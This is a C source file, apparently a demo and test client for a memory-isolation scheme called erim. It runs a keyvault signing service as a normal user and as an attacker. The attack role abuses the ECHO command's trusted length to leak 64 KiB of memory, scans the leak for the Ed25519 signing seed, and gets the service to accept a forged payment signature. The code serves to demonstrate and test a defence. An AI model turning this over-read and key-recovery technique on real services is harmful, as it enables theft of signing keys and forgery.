/* SPDX-License-Identifier: MIT */
/* kv_client.c: a client of the keyvault service, used by the demo and the
 * tests.  It starts the service (SERVICE ARGS...) with its stdin/stdout on
 * pipes and talks the line protocol to it, in one of two roles:
 *
 *   kv_client normal SERVICE...  an honest user: fetch the public key, get a
 *                                message signed, check the signature locally
 *                                and through VERIFY, and check that a
 *                                tampered message is rejected.
 *   kv_client attack SERVICE...  an attacker who knows nothing but the
 *                                protocol: abuse ECHO's trusted length to read
 *                                64 KiB of the service's memory, search the
 *                                leak for a seed whose public key is the
 *                                service's, forge a signature with it and have
 *                                the service itself accept it.
 *
 * Exit status: 0 the role succeeded (normal use worked / the key was stolen
 * and the forgery accepted), 3 (attack only) no key was recovered, 1 anything
 * else.  The service's stderr is collected and passed through once it ends,
 * followed by its fate ("service: ...").
 *
 * With --expect=OUTCOME the client becomes a test (for the demo, the test
 * suites and the VM, where only exit statuses and closing lines travel):
 * `ok' (normal use worked), `stolen' (the attack forged a signature the
 * service accepted) or `stopped' (no key recovered, no byte of the leak
 * reply received, the service stopped, and its stderr carries erim's
 * violation report).  It prints "kv_ROLE_OUTCOME: N passed, N failed" and
 * exits 0 only when the outcome was observed. */
#include <errno.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include <sodium.h>

#define KVC_REPLY_MAX (2 * 65535 + 64)

struct kvc_conn {
	pid_t pid;
	FILE *to;       /* the service's stdin */
	FILE *from;     /* the service's stdout */
	int err_fd;     /* the service's stderr */
};

#define KVC_VIOLATION "erim: violation: untrusted code read trusted memory"

static char kvc_reply[KVC_REPLY_MAX + 2];
static long kvc_leaked;   /* bytes the ECHO over-read returned */

static void kvc_die(const char *what)
{
	fprintf(stderr, "kv_client: %s: %s\n", what, strerror(errno));
	exit(1);
}

static void kvc_start(struct kvc_conn *c, char **argv)
{
	int in[2], out[2], err[2];

	if (pipe(in) != 0 || pipe(out) != 0 || pipe(err) != 0)
		kvc_die("pipe");
	c->pid = fork();
	if (c->pid < 0)
		kvc_die("fork");
	if (c->pid == 0) {
		dup2(in[0], 0);
		dup2(out[1], 1);
		dup2(err[1], 2);
		close(in[0]); close(in[1]); close(out[0]); close(out[1]);
		close(err[0]); close(err[1]);
		execv(argv[0], argv);
		fprintf(stderr, "kv_client: cannot run %s: %s\n", argv[0], strerror(errno));
		_exit(127);
	}
	close(in[0]);
	close(out[1]);
	close(err[1]);
	c->err_fd = err[0];
	c->to = fdopen(in[1], "w");
	c->from = fdopen(out[0], "r");
	if (c->to == NULL || c->from == NULL)
		kvc_die("fdopen");
}

/* Send REQ, read one reply line into kvc_reply; NULL if the service is gone. */
static const char *kvc_ask(struct kvc_conn *c, const char *req)
{
	size_t n;

	if (fprintf(c->to, "%s\n", req) < 0 || fflush(c->to) != 0)
		return NULL;
	if (fgets(kvc_reply, sizeof kvc_reply, c->from) == NULL)
		return NULL;
	n = strcspn(kvc_reply, "\n");
	kvc_reply[n] = '\0';
	return kvc_reply;
}

/* Close the pipes, wait for the service, pass its stderr through (and note
 * in *VIOLATION whether it holds erim's violation report) and describe how
 * it ended; returns 1 if it was killed by a signal or exited non-zero. */
static int kvc_finish(struct kvc_conn *c, int *violation)
{
	static char err[65536];
	size_t len = 0;
	ssize_t got;
	int st;

	fclose(c->to);
	fclose(c->from);
	while (len < sizeof err - 1 && (got = read(c->err_fd, err + len, sizeof err - 1 - len)) != 0) {
		if (got < 0) {
			if (errno == EINTR)
				continue;
			break;
		}
		len += (size_t)got;
	}
	err[len] = '\0';
	close(c->err_fd);
	fflush(stdout);
	fputs(err, stderr);
	fflush(stderr);
	*violation = strstr(err, KVC_VIOLATION) != NULL;
	if (waitpid(c->pid, &st, 0) < 0)
		kvc_die("waitpid");
	if (WIFSIGNALED(st)) {
		printf("service: killed by signal %d (%s)\n", WTERMSIG(st), strsignal(WTERMSIG(st)));
		return 1;
	}
	if (WEXITSTATUS(st) != 0) {
		printf("service: exited with status %d\n", WEXITSTATUS(st));
		return 1;
	}
	return 0;
}

/* "OK <hex>" -> bytes; the byte count, or -1. */
static long kvc_ok_hex(const char *reply, uint8_t *buf, size_t cap)
{
	size_t n;

	if (reply == NULL || strncmp(reply, "OK ", 3) != 0)
		return -1;
	if (sodium_hex2bin(buf, cap, reply + 3, strlen(reply + 3), NULL, &n, NULL) != 0)
		return -1;
	return (long)n;
}

static void kvc_hex(char *dst, size_t cap, const void *src, size_t n)
{
	sodium_bin2hex(dst, cap, src, n);
}

static int kvc_normal(struct kvc_conn *c)
{
	static const char msg[] = "pay 10 EUR to alice";
	uint8_t pk[crypto_sign_PUBLICKEYBYTES], sig[crypto_sign_BYTES];
	char msghex[2 * sizeof msg + 1], sighex[2 * sizeof sig + 1], req[512], pkhex[17];
	const char *r;
	int ok = 1, local, remote, tampered;

	if (kvc_ok_hex(kvc_ask(c, "PUBKEY"), pk, sizeof pk) != (long)sizeof pk) {
		printf("normal: PUBKEY failed\n");
		return 1;
	}
	kvc_hex(pkhex, sizeof pkhex, pk, 8);
	kvc_hex(msghex, sizeof msghex, msg, strlen(msg));
	snprintf(req, sizeof req, "SIGN %s", msghex);
	if (kvc_ok_hex(kvc_ask(c, req), sig, sizeof sig) != (long)sizeof sig) {
		printf("normal: SIGN failed\n");
		return 1;
	}
	kvc_hex(sighex, sizeof sighex, sig, sizeof sig);
	local = crypto_sign_verify_detached(sig, (const uint8_t *)msg, strlen(msg), pk) == 0;
	snprintf(req, sizeof req, "VERIFY %s %s", msghex, sighex);
	r = kvc_ask(c, req);
	remote = r != NULL && strcmp(r, "OK valid") == 0;
	msghex[0] = msghex[0] == '7' ? '6' : '7';   /* flip one bit of the first byte */
	snprintf(req, sizeof req, "VERIFY %s %s", msghex, sighex);
	r = kvc_ask(c, req);
	tampered = r != NULL && strcmp(r, "ERR invalid signature") == 0;
	printf("normal: public key %s...; signed \"%s\"\n", pkhex, msg);
	printf("normal: signature valid (checked locally: %s, by VERIFY: %s); tampered message rejected: %s\n",
	       local ? "yes" : "NO", remote ? "yes" : "NO", tampered ? "yes" : "NO");
	ok = local && remote && tampered;
	return ok ? 0 : 1;
}

/* Search LEAK[0..N) for a 32-byte Ed25519 seed whose public key is PK.
 * First where libsodium's secret-key layout (seed followed by the public
 * key) puts it, then, in case the key is stored some other way, at every
 * offset.  The offset, or -1. */
static long kvc_find_seed(const uint8_t *leak, size_t n, const uint8_t *pk, uint8_t *seed_out)
{
	uint8_t cpk[crypto_sign_PUBLICKEYBYTES], csk[crypto_sign_SECRETKEYBYTES];
	size_t i, pass;

	for (pass = 0; pass < 2; pass++) {
		for (i = 0; i + crypto_sign_SEEDBYTES <= n; i++) {
			if (pass == 0 && (i + 64 > n || memcmp(leak + i + 32, pk, 32) != 0))
				continue;
			if (sodium_is_zero(leak + i, crypto_sign_SEEDBYTES))
				continue;
			crypto_sign_seed_keypair(cpk, csk, leak + i);
			if (memcmp(cpk, pk, sizeof cpk) == 0) {
				memcpy(seed_out, leak + i, crypto_sign_SEEDBYTES);
				return (long)i;
			}
		}
	}
	return -1;
}

static int kvc_attack(struct kvc_conn *c)
{
	static const char forged[] = "pay 1000000 EUR to mallory";
	static uint8_t leak[65535];
	uint8_t pk[crypto_sign_PUBLICKEYBYTES], pk2[crypto_sign_PUBLICKEYBYTES];
	uint8_t sk[crypto_sign_SECRETKEYBYTES], seed[crypto_sign_SEEDBYTES], sig[crypto_sign_BYTES];
	char msghex[2 * sizeof forged + 1], sighex[2 * sizeof sig + 1], seedhex[17], req[512];
	const char *r;
	long n, at;

	if (kvc_ok_hex(kvc_ask(c, "PUBKEY"), pk, sizeof pk) != (long)sizeof pk) {
		printf("attack: PUBKEY failed\n");
		return 1;
	}
	printf("attack: sending \"ECHO 65535 hi\" (claims 65535 bytes, sends 2)\n");
	fflush(stdout);
	r = kvc_ask(c, "ECHO 65535 hi");
	n = kvc_ok_hex(r, leak, sizeof leak);
	kvc_leaked = n > 0 ? n : 0;
	if (n < 0) {
		printf("attack: no reply to ECHO: the service is gone; 0 bytes leaked\n");
		printf("attack: no key recovered\n");
		return 3;
	}
	printf("attack: received %ld bytes of the service's memory\n", n);
	at = kvc_find_seed(leak, (size_t)n, pk, seed);
	if (at < 0) {
		printf("attack: no key recovered (no seed in the leak matches the public key)\n");
		return 3;
	}
	kvc_hex(seedhex, sizeof seedhex, seed, 8);
	printf("attack: LEAKED the signing key at byte %ld of the leak (seed %s...)\n", at, seedhex);
	crypto_sign_seed_keypair(pk2, sk, seed);
	crypto_sign_detached(sig, NULL, (const uint8_t *)forged, strlen(forged), sk);
	kvc_hex(msghex, sizeof msghex, forged, strlen(forged));
	kvc_hex(sighex, sizeof sighex, sig, sizeof sig);
	snprintf(req, sizeof req, "VERIFY %s %s", msghex, sighex);
	r = kvc_ask(c, req);
	printf("attack: forged a signature on \"%s\"; the service says: %s\n", forged, r ? r : "(no reply)");
	return r != NULL && strcmp(r, "OK valid") == 0 ? 0 : 1;
}

int main(int argc, char **argv)
{
	struct kvc_conn c;
	const char *expect = NULL, *role;
	int rc, died, violation, pass;

	if (argc > 1 && strncmp(argv[1], "--expect=", 9) == 0) {
		expect = argv[1] + 9;
		argv++;
		argc--;
	}
	if (argc < 3 || (strcmp(argv[1], "normal") != 0 && strcmp(argv[1], "attack") != 0) ||
	    (expect != NULL && strcmp(expect, "ok") != 0 && strcmp(expect, "stolen") != 0 &&
	     strcmp(expect, "stopped") != 0)) {
		fprintf(stderr, "usage: kv_client [--expect=ok|stolen|stopped] normal|attack SERVICE [ARGS...]\n");
		return 1;
	}
	role = argv[1];
	if (sodium_init() < 0) {
		fprintf(stderr, "kv_client: sodium_init failed\n");
		return 1;
	}
	signal(SIGPIPE, SIG_IGN);
	kvc_start(&c, argv + 2);
	rc = strcmp(role, "normal") == 0 ? kvc_normal(&c) : kvc_attack(&c);
	if (rc != 3) {   /* the service is still there: ask it to stop */
		fputs("QUIT\n", c.to);
		fflush(c.to);
	}
	died = kvc_finish(&c, &violation);
	if (rc == 0 && died)
		rc = 1;
	if (expect == NULL)
		return rc;
	if (strcmp(expect, "stopped") == 0)
		pass = rc == 3 && died && violation && kvc_leaked == 0;
	else
		pass = rc == 0;
	printf("kv_%s_%s: %d passed, %d failed\n", role, expect, pass, !pass);
	return pass ? 0 : 1;
}
